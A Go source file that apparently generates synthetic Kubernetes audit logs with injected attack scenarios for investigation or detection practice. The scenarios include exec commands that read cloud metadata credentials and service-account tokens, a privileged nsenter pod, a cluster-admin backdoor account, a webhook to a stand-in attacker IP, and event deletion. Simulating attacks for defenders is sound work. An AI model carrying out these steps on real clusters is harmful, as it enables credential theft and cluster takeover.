package generate

import (
	"encoding/base64"
	"strconv"
	"time"
)

// The injected attack scenarios. Each one is a short script of requests, sent with the
// same API shapes kube-apiserver logs for the real thing, by identities and from
// addresses that tell the story an investigator should find:
//
//   - alice's kubeconfig is used from a public address (198.51.100.23) to exec into a web
//     pod, query the cloud metadata service and read the pod's service-account token;
//   - that stolen token (system:serviceaccount:prod:web) then enumerates secrets from the
//     same address, and drives peirates from inside the cluster;
//   - the CI deployer creates a service account, binds it to cluster-admin and mints a
//     token for it; the token is used from 203.0.113.77 to list every secret with data,
//     delete events, register a mutating webhook, get a system:masters certificate
//     approved and read kubelets through nodes/proxy;
//   - bob creates a privileged pod with hostPID and the node's root filesystem, and
//     port-forwards to the ledger database; alice impersonates system:admin and deploys a
//     debug DaemonSet;
//   - 203.0.113.200 probes the apiserver: anonymous reads that RBAC wrongly allows and a
//     burst of 401 and 403 answers.
//
// The addresses are from the documentation ranges (RFC 5737), which no real host uses.

type scenario struct {
	name string
	run  func(s *sim)
}

var attackScenarios = []scenario{
	{"exec-shell", runExecShell},
	{"exec-cloud-metadata", runExecMetadata},
	{"exec-sa-token-read", runExecToken},
	{"privileged-pod", runPrivilegedPod},
	{"debug-daemonset", runDebugDaemonSet},
	{"cluster-admin-binding", runClusterAdminBinding},
	{"token-request", runTokenRequest},
	{"token-use-public-ip", runTokenUse},
	{"secret-enumeration", runSecretEnumeration},
	{"secret-list-cluster-wide", runSecretListAll},
	{"anonymous-access", runAnonymous},
	{"auth-scan", runAuthScan},
	{"offensive-user-agent", runOffensiveUA},
	{"events-deleted", runEventsDeleted},
	{"mutating-webhook", runMutatingWebhook},
	{"csr-system-masters", runCSR},
	{"impersonation-system-admin", runImpersonation},
	{"port-forward", runPortForward},
	{"nodes-proxy", runNodesProxy},
}

const (
	attackerIP  = "198.51.100.23"
	attacker2IP = "203.0.113.77"
	scannerIP   = "203.0.113.200"
	backdoorSA  = "kube-metrics-agent"
)

// script sends the requests of one scenario, advancing its own clock; the simulation clock
// is restored when the script ends so the noise carries on unchanged.
type script struct {
	s     *sim
	name  string
	saved int64
}

func (s *sim) script(name string) *script {
	return &script{s: s, name: name, saved: s.now}
}

func (sc *script) req(who *identity, verb, path, query string, ref objRef, notes []byte) *request {
	r := sc.s.req(who, verb, path, query, ref)
	r.scenario = sc.name
	r.notes = notes
	return r
}

// send submits r and moves the script's clock by gap µs.
func (sc *script) send(r *request, latency, gap int64) {
	sc.s.submit(r, latency)
	sc.s.now += gap
}

func (sc *script) done() { sc.s.now = sc.saved }

func fixed(body string) bodyFunc {
	return func(_ *sim, _ *request, b []byte) []byte { return append(b, body...) }
}

func ts(micros int64) string { return time.UnixMicro(micros).UTC().Format(time.RFC3339) }

// ---- identities used by the attacks ----

func (c *cluster) alice(ip string) *identity {
	h := c.humans[0]
	return newIdentity(h.name, "", h.groups, nil, ip, "kubectl/v1.35.1 (darwin/arm64) kubernetes/8c7b4bd")
}

var (
	notesAlice = notesGroup("platform-admins", "cluster-admin", "platform-admins")
	bobGroups  = []string{"developers", "system:authenticated"}
)

func (c *cluster) bob() *identity {
	return newIdentity("bob@example.com", "", bobGroups, nil, "10.20.5.77", "kubectl/v1.35.0 (linux/amd64) kubernetes/2a9b1c7")
}

func notesBob(ns string) []byte {
	return allowRBAC("RoleBinding", "bob-admin/"+ns, "admin", "User", "bob@example.com")
}

func (c *cluster) webPod() *pod { return c.deployments[0].pods[0] }

func (s *sim) webToken(ip, ua string) *identity {
	return saIdentity(s, "prod", "web", ip, ua, s.c.webPod())
}

func (s *sim) backdoor() *identity {
	if s.c.backdoorID == nil {
		s.c.backdoorID = saIdentity(s, "kube-system", backdoorSA, attacker2IP, "kubectl/v1.33.4 (linux/amd64) kubernetes/74b9f6e", nil)
	}
	return s.c.backdoorID
}

var notesBackdoor = allowRBAC("ClusterRoleBinding", backdoorSA+"-binding", "cluster-admin", "ServiceAccount", "kube-system/"+backdoorSA)

// ---- exec ----

func runExec(s *sim, name, command, streams string, duration int64) {
	sc := s.script(name)
	defer sc.done()
	p := s.c.webPod()
	who := s.c.alice(attackerIP)
	ref := objRef{resource: "pods", namespace: "prod", name: p.name, version: "v1"}
	sc.send(sc.req(who, "get", "/api/v1/namespaces/prod/pods/"+p.name, "", ref, notesAlice), s.latency(), 40000)
	ref.subresource = "exec"
	r := sc.req(who, "create", "/api/v1/namespaces/prod/pods/"+p.name+"/exec", command+"&container=web&"+streams, ref, notesAlice)
	r.code = 101
	r.withStarted = true
	r.started = r.received + 20000 + s.rng.Int64N(30000)
	r.completed = r.started + duration
	sc.send(r, 0, 0)
}

func runExecShell(s *sim) {
	runExec(s, "exec-shell", "command=%2Fbin%2Fsh", "stdin=true&stdout=true&tty=true", 70*sec)
}

func runExecMetadata(s *sim) {
	runExec(s, "exec-cloud-metadata",
		"command=curl&command=-s&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
		"stderr=true&stdout=true", 2*sec)
}

func runExecToken(s *sim) {
	runExec(s, "exec-sa-token-read",
		"command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
		"stderr=true&stdout=true", 1*sec)
}

// ---- workloads ----

func runPrivilegedPod(s *sim) {
	sc := s.script("privileged-pod")
	defer sc.done()
	name := "node-debug-" + s.suffix(5)
	spec := `"spec":{"volumes":[{"name":"host-root","hostPath":{"path":"/","type":""}}],"containers":[{"name":"shell","image":"docker.io/library/ubuntu:24.04","command":["nsenter","--target","1","--mount","--uts","--ipc","--net","--pid","--","bash"],"resources":{},"volumeMounts":[{"name":"host-root","mountPath":"/host"}],"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"IfNotPresent","securityContext":{"privileged":true},"stdin":true,"tty":true}],"restartPolicy":"Never","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","nodeName":"k8s-worker-2","hostNetwork":true,"hostPID":true,"securityContext":{},"schedulerName":"default-scheduler"}`
	req := `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"` + name + `","namespace":"default","creationTimestamp":null,"labels":{"run":"` + name + `"}},` + spec + `,"status":{}}`
	uid := s.uuid()
	rv := s.nextRV()
	resp := `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"` + name + `","namespace":"default","uid":"` + uid + `","resourceVersion":"` + strconv.FormatUint(rv, 10) +
		`","creationTimestamp":"` + ts(s.now) + `","labels":{"run":"` + name + `"},"managedFields":[{"manager":"kubectl-run","operation":"Update","apiVersion":"v1","time":"` + ts(s.now) +
		`","fieldsType":"FieldsV1","fieldsV1":{"f:metadata":{"f:labels":{".":{},"f:run":{}}},"f:spec":{"f:containers":{"k:{\"name\":\"shell\"}":{".":{},"f:command":{},"f:image":{},"f:name":{},"f:securityContext":{".":{},"f:privileged":{}},"f:stdin":{},"f:tty":{},"f:volumeMounts":{}}},"f:hostNetwork":{},"f:hostPID":{},"f:nodeName":{},"f:volumes":{}}}}]},` +
		spec + `,"status":{"phase":"Pending","qosClass":"BestEffort"}}`
	notes := append(append([]byte(nil), notesBob("default")...), `,"pod-security.kubernetes.io/audit-violations":"would violate PodSecurity \"baseline:latest\": host namespaces (hostNetwork=true, hostPID=true), privileged (container \"shell\" must not set securityContext.privileged=true), hostPath volumes (volume \"host-root\")","pod-security.kubernetes.io/enforce-policy":"privileged:latest"`...)
	r := sc.req(s.c.bob(), "create", "/api/v1/namespaces/default/pods", "fieldManager=kubectl-run",
		objRef{resource: "pods", namespace: "default", version: "v1", bodyName: name}, notes)
	r.code = 201
	r.reqBody, r.respBody = fixed(req), fixed(resp)
	sc.send(r, 9000, 0)
}

func runDebugDaemonSet(s *sim) {
	sc := s.script("debug-daemonset")
	defer sc.done()
	name := "node-debugger"
	tmpl := `"template":{"metadata":{"creationTimestamp":null,"labels":{"app":"node-debugger"}},"spec":{"volumes":[{"name":"host","hostPath":{"path":"/","type":""}}],"containers":[{"name":"debug","image":"docker.io/nicolaka/netshoot:latest","command":["sleep","infinity"],"resources":{},"volumeMounts":[{"name":"host","mountPath":"/host"}],"terminationMessagePath":"/dev/termination-log","terminationMessagePolicy":"File","imagePullPolicy":"Always","securityContext":{"capabilities":{"add":["SYS_ADMIN","NET_ADMIN","SYS_PTRACE"]},"privileged":true}}],"restartPolicy":"Always","terminationGracePeriodSeconds":30,"dnsPolicy":"ClusterFirst","hostNetwork":true,"hostPID":true,"securityContext":{},"schedulerName":"default-scheduler","tolerations":[{"operator":"Exists"}]}}`
	specTail := `"updateStrategy":{"type":"RollingUpdate","rollingUpdate":{"maxUnavailable":1,"maxSurge":0}},"revisionHistoryLimit":10}`
	req := `{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"` + name + `","namespace":"kube-system","creationTimestamp":null,"labels":{"app":"node-debugger"}},"spec":{"selector":{"matchLabels":{"app":"node-debugger"}},` + tmpl + `,` + specTail + `,"status":{"currentNumberScheduled":0,"numberMisscheduled":0,"desiredNumberScheduled":0,"numberReady":0}}`
	resp := `{"kind":"DaemonSet","apiVersion":"apps/v1","metadata":{"name":"` + name + `","namespace":"kube-system","uid":"` + s.uuid() + `","resourceVersion":"` + strconv.FormatUint(s.nextRV(), 10) +
		`","generation":1,"creationTimestamp":"` + ts(s.now) + `","labels":{"app":"node-debugger"},"annotations":{"deprecated.daemonset.template.generation":"1"}},"spec":{"selector":{"matchLabels":{"app":"node-debugger"}},` +
		tmpl + `,` + specTail + `,"status":{"currentNumberScheduled":0,"numberMisscheduled":0,"desiredNumberScheduled":0,"numberReady":0}}`
	notes := append(append([]byte(nil), notesAlice...), `,"pod-security.kubernetes.io/audit-violations":"would violate PodSecurity \"baseline:latest\": host namespaces (hostNetwork=true, hostPID=true), privileged (container \"debug\" must not set securityContext.privileged=true), non-default capabilities (container \"debug\" must not include \"NET_ADMIN\", \"SYS_ADMIN\", \"SYS_PTRACE\" in securityContext.capabilities.add), hostPath volumes (volume \"host\")"`...)
	r := sc.req(s.c.alice(attackerIP), "create", "/apis/apps/v1/namespaces/kube-system/daemonsets", "fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
		objRef{resource: "daemonsets", namespace: "kube-system", group: "apps", version: "v1", bodyName: name}, notes)
	r.code = 201
	r.reqBody, r.respBody = fixed(req), fixed(resp)
	sc.send(r, 12000, 0)
}

// ---- the cluster-admin service account ----

func runClusterAdminBinding(s *sim) {
	sc := s.script("cluster-admin-binding")
	defer sc.done()
	ci := s.c.ci
	uid := s.uuid()
	s.c.backdoorUID = uid
	saReq := `{"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":"` + backdoorSA + `","namespace":"kube-system","creationTimestamp":null}}`
	saResp := `{"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":"` + backdoorSA + `","namespace":"kube-system","uid":"` + uid + `","resourceVersion":"` + strconv.FormatUint(s.nextRV(), 10) + `","creationTimestamp":"` + ts(s.now) +
		`","managedFields":[{"manager":"kubectl-create","operation":"Update","apiVersion":"v1","time":"` + ts(s.now) + `","fieldsType":"FieldsV1","fieldsV1":{}}]}}`
	notesCISA := allowRBAC("ClusterRoleBinding", "ci-deployer-cluster", "ci-deployer", "ServiceAccount", "ci/deployer")
	r := sc.req(ci, "create", "/api/v1/namespaces/kube-system/serviceaccounts", "fieldManager=kubectl-create&fieldValidation=Strict",
		objRef{resource: "serviceaccounts", namespace: "kube-system", version: "v1", bodyName: backdoorSA}, notesCISA)
	r.code = 201
	r.reqBody, r.respBody = fixed(saReq), fixed(saResp)
	sc.send(r, 6000, 4*sec)
	crb := backdoorSA + "-binding"
	body := `"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}`
	subj := `"subjects":[{"kind":"ServiceAccount","name":"` + backdoorSA + `","namespace":"kube-system"}]`
	crbReq := `{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"` + crb + `","creationTimestamp":null},` + subj + `,` + body + `}`
	crbResp := `{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"` + crb + `","uid":"` + s.uuid() + `","resourceVersion":"` + strconv.FormatUint(s.nextRV(), 10) + `","creationTimestamp":"` + ts(s.now) +
		`","managedFields":[{"manager":"kubectl-create","operation":"Update","apiVersion":"rbac.authorization.k8s.io/v1","time":"` + ts(s.now) + `","fieldsType":"FieldsV1","fieldsV1":{"f:roleRef":{},"f:subjects":{}}}]},` + subj + `,` + body + `}`
	r = sc.req(ci, "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "fieldManager=kubectl-create&fieldValidation=Strict",
		objRef{resource: "clusterrolebindings", group: "rbac.authorization.k8s.io", version: "v1", bodyName: crb}, notesCISA)
	r.code = 201
	r.reqBody, r.respBody = fixed(crbReq), fixed(crbResp)
	sc.send(r, 7000, 0)
}

func runTokenRequest(s *sim) {
	sc := s.script("token-request")
	defer sc.done()
	r := sc.req(s.c.ci, "create", "/api/v1/namespaces/kube-system/serviceaccounts/"+backdoorSA+"/token", "",
		objRef{resource: "serviceaccounts", namespace: "kube-system", name: backdoorSA, version: "v1", subresource: "token"},
		allowRBAC("ClusterRoleBinding", "ci-deployer-cluster", "ci-deployer", "ServiceAccount", "ci/deployer"))
	r.code = 201
	sc.send(r, 4000, 0)
}

func runTokenUse(s *sim) {
	sc := s.script("token-use-public-ip")
	defer sc.done()
	who := s.backdoor()
	for _, q := range []struct {
		verb, path, query string
		ref               objRef
	}{
		{"get", "/api", "timeout=32s", objRef{}},
		{"get", "/apis", "timeout=32s", objRef{}},
		{"list", "/api/v1/nodes", "limit=500", objRef{resource: "nodes", version: "v1"}},
		{"list", "/api/v1/pods", "limit=500", objRef{resource: "pods", version: "v1"}},
		{"list", "/api/v1/namespaces", "limit=500", objRef{resource: "namespaces", version: "v1"}},
		{"get", "/api/v1/namespaces/kube-system/secrets/cloud-provider-credentials", "", objRef{resource: "secrets", namespace: "kube-system", name: "cloud-provider-credentials", version: "v1"}},
		{"list", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings", "limit=500", objRef{resource: "clusterrolebindings", group: "rbac.authorization.k8s.io", version: "v1"}},
	} {
		r := sc.req(who, q.verb, q.path, q.query, q.ref, notesBackdoor)
		if !r.hasRef {
			r.notes = notesGroup("system:discovery", "system:discovery", "system:authenticated")
		}
		sc.send(r, s.latency()+5000, 1*sec+s.rng.Int64N(3*sec))
	}
}

// ---- secrets ----

func runSecretEnumeration(s *sim) {
	sc := s.script("secret-enumeration")
	defer sc.done()
	who := s.webToken(attackerIP, "curl/8.5.0")
	notes := allowRBAC("ClusterRoleBinding", "web-secret-reader", "secret-reader", "ServiceAccount", "prod/web")
	n := 0
	for i, sec := range s.c.secrets {
		if n == 30 {
			break
		}
		if sec.ns == "kube-system" || sec.ns == "default" {
			continue
		}
		n++
		r := sc.req(who, "get", "/api/v1/namespaces/"+sec.ns+"/secrets/"+sec.name, "",
			objRef{resource: "secrets", namespace: sec.ns, name: sec.name, version: "v1"}, notes)
		r.i1 = i
		r.respBody = secretResponse
		sc.send(r, s.latency(), 2*1e6+s.rng.Int64N(4*1e6))
	}
}

func runSecretListAll(s *sim) {
	sc := s.script("secret-list-cluster-wide")
	defer sc.done()
	r := sc.req(s.backdoor(), "list", "/api/v1/secrets", "limit=500", objRef{resource: "secrets", version: "v1"}, notesBackdoor)
	r.t1 = int64(s.rv)
	r.respBody = secretListResponse
	sc.send(r, 48000, 0)
}

// ---- unauthenticated traffic ----

func anonymous(ip, ua string) *identity {
	return newIdentity("system:anonymous", "", []string{"system:unauthenticated"}, nil, ip, ua)
}

func runAnonymous(s *sim) {
	sc := s.script("anonymous-access")
	defer sc.done()
	who := anonymous(scannerIP, "python-requests/2.32.3")
	notes := allowRBAC("ClusterRoleBinding", "anonymous-view", "view", "User", "system:anonymous")
	for _, q := range []struct {
		verb, path string
		ref        objRef
	}{
		{"list", "/api/v1/namespaces/kube-system/configmaps", objRef{resource: "configmaps", namespace: "kube-system", version: "v1"}},
		{"list", "/api/v1/pods", objRef{resource: "pods", version: "v1"}},
		{"list", "/api/v1/namespaces/prod/services", objRef{resource: "services", namespace: "prod", version: "v1"}},
		{"list", "/apis/apps/v1/deployments", objRef{resource: "deployments", group: "apps", version: "v1"}},
	} {
		sc.send(sc.req(who, q.verb, q.path, "", q.ref, notes), s.latency(), 300000+s.rng.Int64N(900000))
	}
}

var scanPaths = []struct {
	verb, path string
	ref        objRef
}{
	{"list", "/api/v1/secrets", objRef{resource: "secrets", version: "v1"}},
	{"list", "/api/v1/pods", objRef{resource: "pods", version: "v1"}},
	{"list", "/api/v1/namespaces/kube-system/secrets", objRef{resource: "secrets", namespace: "kube-system", version: "v1"}},
	{"create", "/api/v1/namespaces/default/pods", objRef{resource: "pods", namespace: "default", version: "v1"}},
	{"list", "/apis/rbac.authorization.k8s.io/v1/clusterroles", objRef{resource: "clusterroles", group: "rbac.authorization.k8s.io", version: "v1"}},
	{"list", "/api/v1/nodes", objRef{resource: "nodes", version: "v1"}},
	{"get", "/api/v1/namespaces/kube-system/configmaps/kubeadm-config", objRef{resource: "configmaps", namespace: "kube-system", name: "kubeadm-config", version: "v1"}},
	{"list", "/apis/apps/v1/daemonsets", objRef{resource: "daemonsets", group: "apps", version: "v1"}},
}

func runAuthScan(s *sim) {
	sc := s.script("auth-scan")
	defer sc.done()
	unauth := newIdentity("", "", nil, nil, scannerIP, "Go-http-client/1.1")
	unauth.user = []byte(`"user":{}`)
	anon := anonymous(scannerIP, "Go-http-client/1.1")
	for i := 0; i < 24; i++ {
		q := scanPaths[i%len(scanPaths)]
		r := sc.req(unauth, q.verb, q.path, "", q.ref, nil)
		// Failed authentication is logged once, at ResponseStarted, with an empty user.
		r.noReceived, r.withStarted, r.noComplete = true, true, true
		r.code = 401
		r.status = []byte(`{"metadata":{},"message":"Authentication failed, attempted: bearer","code":401}`)
		sc.send(r, 300+s.rng.Int64N(900), 40000+s.rng.Int64N(250000))
	}
	for i := 0; i < 16; i++ {
		q := scanPaths[i%len(scanPaths)]
		r := sc.req(anon, q.verb, q.path, "", q.ref, notesForbid)
		r.code = 403
		r.status = forbidden("system:anonymous", q.verb, q.ref.resource, q.ref.group, q.ref.namespace, q.ref.name)
		sc.send(r, 500+s.rng.Int64N(1500), 40000+s.rng.Int64N(250000))
	}
}

func runOffensiveUA(s *sim) {
	sc := s.script("offensive-user-agent")
	defer sc.done()
	who := s.webToken("10.244.3.41", "peirates/v0.0.0 (linux/amd64) kubernetes/$Format")
	notes := allowRBAC("ClusterRoleBinding", "web-secret-reader", "secret-reader", "ServiceAccount", "prod/web")
	r := sc.req(who, "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", "",
		objRef{resource: "selfsubjectrulesreviews", group: "authorization.k8s.io", version: "v1"},
		notesGroup("system:basic-user", "system:basic-user", "system:authenticated"))
	r.code = 201
	r.reqBody = fixed(`{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"prod"},"status":{"resourceRules":null,"nonResourceRules":null,"incomplete":false}}`)
	r.respBody = fixed(`{"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":"prod"},"status":{"resourceRules":[{"verbs":["get","list"],"apiGroups":[""],"resources":["secrets"]},{"verbs":["create"],"apiGroups":["authorization.k8s.io"],"resources":["selfsubjectaccessreviews","selfsubjectrulesreviews"]}],"nonResourceRules":[{"verbs":["get"],"nonResourceURLs":["/api","/api/*","/apis","/apis/*","/healthz","/livez","/openapi","/openapi/*","/readyz","/version","/version/"]}],"incomplete":false}}`)
	sc.send(r, 3000, 700000)
	for _, q := range []struct {
		verb, path string
		ref        objRef
	}{
		{"list", "/api/v1/namespaces/prod/pods", objRef{resource: "pods", namespace: "prod", version: "v1"}},
		{"list", "/api/v1/namespaces/prod/secrets", objRef{resource: "secrets", namespace: "prod", version: "v1"}},
		{"get", "/api/v1/namespaces/prod/secrets/api-db", objRef{resource: "secrets", namespace: "prod", name: "api-db", version: "v1"}},
	} {
		sc.send(sc.req(who, q.verb, q.path, "", q.ref, notes), s.latency(), 500000+s.rng.Int64N(sec))
	}
}

// ---- covering tracks and persistence ----

func runEventsDeleted(s *sim) {
	sc := s.script("events-deleted")
	defer sc.done()
	who := s.backdoor()
	r := sc.req(who, "deletecollection", "/api/v1/namespaces/kube-system/events", "",
		objRef{resource: "events", namespace: "kube-system", version: "v1"}, notesBackdoor)
	r.respBody = fixed(`{"kind":"EventList","apiVersion":"v1","metadata":{"resourceVersion":"` + strconv.FormatUint(s.nextRV(), 10) + `"},"items":[]}`)
	sc.send(r, 35000, 2*sec)
	for i := 0; i < 3; i++ {
		p := s.c.deployments[0].pods[i%len(s.c.deployments[0].pods)]
		name := p.name + "." + s.hex(16)
		d := sc.req(who, "delete", "/api/v1/namespaces/prod/events/"+name, "",
			objRef{resource: "events", namespace: "prod", name: name, version: "v1"}, notesBackdoor)
		d.respBody = fixed(`{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Success","details":{"name":"` + name + `","kind":"events","uid":"` + s.uuid() + `"}}`)
		sc.send(d, s.latency(), 400000)
	}
}

func runMutatingWebhook(s *sim) {
	sc := s.script("mutating-webhook")
	defer sc.done()
	name := "pod-metrics-injector"
	hooks := `"webhooks":[{"name":"inject.metrics.example.io","clientConfig":{"url":"https://` + attacker2IP + `:8443/mutate"},"rules":[{"operations":["CREATE","UPDATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"],"scope":"*"}],"failurePolicy":"Ignore","matchPolicy":"Equivalent","namespaceSelector":{},"objectSelector":{},"sideEffects":"None","timeoutSeconds":5,"admissionReviewVersions":["v1"],"reinvocationPolicy":"Never"}]`
	req := `{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"` + name + `","creationTimestamp":null},` + hooks + `}`
	resp := `{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"` + name + `","uid":"` + s.uuid() + `","resourceVersion":"` + strconv.FormatUint(s.nextRV(), 10) + `","generation":1,"creationTimestamp":"` + ts(s.now) + `"},` + hooks + `}`
	r := sc.req(s.backdoor(), "create", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations", "fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
		objRef{resource: "mutatingwebhookconfigurations", group: "admissionregistration.k8s.io", version: "v1", bodyName: name}, notesBackdoor)
	r.code = 201
	r.reqBody, r.respBody = fixed(req), fixed(resp)
	sc.send(r, 8000, 0)
}

// systemMastersCSR is a PKCS#10 request for O=system:masters, CN=kube-metrics-agent,
// generated once with openssl (a fixed value keeps the output deterministic).
const systemMastersCSR = `-----BEGIN CERTIFICATE REQUEST-----
MIHyMIGYAgEAMDYxFzAVBgNVBAoMDnN5c3RlbTptYXN0ZXJzMRswGQYDVQQDDBJr
dWJlLW1ldHJpY3MtYWdlbnQwWTATBgcqhkjOPQIBBggqhkjOPQMBBwNCAAQF2e+Q
MKOhvoGU8NVvDfYo9iTG87X+Jzq3cUodCk9GzSjGcYrimJDPNkXEYivVm8/FAhtP
/U0Mqvm4eW2urRIeoAAwCgYIKoZIzj0EAwIDSQAwRgIhAJUNlgRPwyFELu2i8We/
oxk3RKsorkJbLuv0hZrVZq0cAiEA67ZXG6nPtjDLRdNvOe2w5gPpI1IsaAtzndQ/
A9AA3uM=
-----END CERTIFICATE REQUEST-----
`

func runCSR(s *sim) {
	sc := s.script("csr-system-masters")
	defer sc.done()
	who := s.backdoor()
	name := "metrics-agent-admin"
	pem := base64.StdEncoding.EncodeToString([]byte(systemMastersCSR))
	spec := `"spec":{"request":"` + pem + `","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"]`
	uid := s.uuid()
	rv := s.nextRV()
	meta := func(rv uint64) string {
		return `"metadata":{"name":"` + name + `","uid":"` + uid + `","resourceVersion":"` + strconv.FormatUint(rv, 10) + `","creationTimestamp":"` + ts(s.now) + `"}`
	}
	user := `,"username":"system:serviceaccount:kube-system:` + backdoorSA + `","uid":"` + s.c.backdoorUID + `","groups":["system:serviceaccounts","system:serviceaccounts:kube-system","system:authenticated"]}`
	r := sc.req(who, "create", "/apis/certificates.k8s.io/v1/certificatesigningrequests", "",
		objRef{resource: "certificatesigningrequests", group: "certificates.k8s.io", version: "v1", bodyName: name}, notesBackdoor)
	r.code = 201
	r.reqBody = fixed(`{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":"` + name + `","creationTimestamp":null},` + spec + `},"status":{}}`)
	r.respBody = fixed(`{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1",` + meta(rv) + `,` + spec + user + `,"status":{}}`)
	sc.send(r, 6000, 3*sec)
	rv2 := s.nextRV()
	cond := `"status":{"conditions":[{"type":"Approved","status":"True","reason":"KubectlApprove","message":"This CSR was approved by kubectl certificate approve.","lastUpdateTime":"` + ts(s.now) + `","lastTransitionTime":null}]}`
	a := sc.req(who, "update", "/apis/certificates.k8s.io/v1/certificatesigningrequests/"+name+"/approval", "",
		objRef{resource: "certificatesigningrequests", name: name, uid: uid, group: "certificates.k8s.io", version: "v1", rv: rv, subresource: "approval"}, notesBackdoor)
	a.reqBody = fixed(`{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1",` + meta(rv) + `,` + spec + user + `,` + cond + `}`)
	a.respBody = fixed(`{"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1",` + meta(rv2) + `,` + spec + user + `,` + cond + `}`)
	sc.send(a, 5000, 2*sec)
	g := sc.req(who, "get", "/apis/certificates.k8s.io/v1/certificatesigningrequests/"+name, "",
		objRef{resource: "certificatesigningrequests", name: name, group: "certificates.k8s.io", version: "v1"}, notesBackdoor)
	sc.send(g, s.latency(), 0)
}

func runImpersonation(s *sim) {
	sc := s.script("impersonation-system-admin")
	defer sc.done()
	who := s.c.alice(s.c.humans[0].ids[1].tailIP())
	imp := []byte(`"impersonatedUser":{"username":"system:admin","groups":["system:masters","system:authenticated"]}`)
	for _, q := range []struct {
		verb, path string
		ref        objRef
	}{
		{"list", "/api/v1/namespaces/kube-system/secrets", objRef{resource: "secrets", namespace: "kube-system", version: "v1"}},
		{"get", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings/cluster-admin", objRef{resource: "clusterrolebindings", name: "cluster-admin", group: "rbac.authorization.k8s.io", version: "v1"}},
		{"list", "/api/v1/nodes", objRef{resource: "nodes", version: "v1"}},
	} {
		r := sc.req(who, q.verb, q.path, "limit=500", q.ref, notesAllowEmpty)
		r.imp = imp
		sc.send(r, s.latency(), 1*sec+s.rng.Int64N(2*sec))
	}
}

func runPortForward(s *sim) {
	sc := s.script("port-forward")
	defer sc.done()
	var p *pod
	for _, d := range s.c.deployments {
		if d.ns == "payments" && d.name == "ledger" {
			p = d.pods[0]
		}
	}
	ref := objRef{resource: "pods", namespace: "payments", name: p.name, version: "v1"}
	sc.send(sc.req(s.c.bob(), "get", "/api/v1/namespaces/payments/pods/"+p.name, "", ref, notesBob("payments")), s.latency(), 60000)
	ref.subresource = "portforward"
	r := sc.req(s.c.bob(), "create", "/api/v1/namespaces/payments/pods/"+p.name+"/portforward", "ports=5432", ref, notesBob("payments"))
	r.code = 101
	r.withStarted = true
	r.started = r.received + 15000
	r.completed = r.started + 40*sec
	sc.send(r, 0, 0)
}

func runNodesProxy(s *sim) {
	sc := s.script("nodes-proxy")
	defer sc.done()
	who := s.backdoor()
	for i, path := range []string{"pods", "runningpods/", "configz", "metrics/cadvisor"} {
		n := s.c.nodes[2+i%3]
		r := sc.req(who, "get", "/api/v1/nodes/"+n.name+"/proxy/"+path, "",
			objRef{resource: "nodes", name: n.name, version: "v1", subresource: "proxy"}, notesBackdoor)
		s.longRunning(r, 20000+s.rng.Int64N(60000), 2000+s.rng.Int64N(30000))
		sc.send(r, 0, 1500000)
	}
}

func (id *identity) tailIP() string {
	// tail is `,"sourceIPs":["IP"],...`
	t := string(id.tail)
	const p = `,"sourceIPs":["`
	end := len(p)
	for end < len(t) && t[end] != '"' {
		end++
	}
	return t[len(p):end]
}
